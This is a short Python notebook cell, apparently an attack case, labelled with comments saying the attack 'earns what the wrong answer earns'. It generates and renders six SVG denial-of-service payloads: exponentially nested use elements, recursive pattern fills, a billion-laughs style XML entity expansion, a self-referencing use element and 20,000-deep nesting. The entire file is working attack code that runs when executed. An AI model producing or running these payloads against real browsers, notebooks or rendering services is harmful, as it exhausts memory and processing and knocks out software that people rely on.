# attack: small drawings that a browser would draw a billion times, or that declare entities
# outcome: earns what the wrong answer earns
# stock: run
from IPython.display import HTML, SVG, display

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
uses = "".join(f'<g id="g{n + 1}">' + f'<use xlink:href="#g{n}"/>' * 10 + "</g>" for n in range(12))
patterns = "".join(f'<pattern id="p{n + 1}" width="1" height="1"><rect fill="url(#p{n})" width="9" height="9"/><rect fill="url(#p{n})"/></pattern>' for n in range(40))
entities = '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>"
for drawing in (f'{HEAD}<g id="g0"><rect/></g>{uses}</svg>', f'{HEAD}<pattern id="p0"/>{patterns}<rect fill="url(#p40)"/></svg>',
                f"{HEAD}<style>g{{fill:url(#p40)}}</style>{patterns}</svg>", f"{entities}{HEAD}<text>&j;</text></svg>",
                f'{HEAD}<g id="a"><use href="#a"/><use href="#a"/></g></svg>', HEAD + "<g>" * 20_000 + "</g>" * 20_000 + "</svg>"):
    display({"image/svg+xml": drawing}, raw=True)
    display(HTML(drawing))
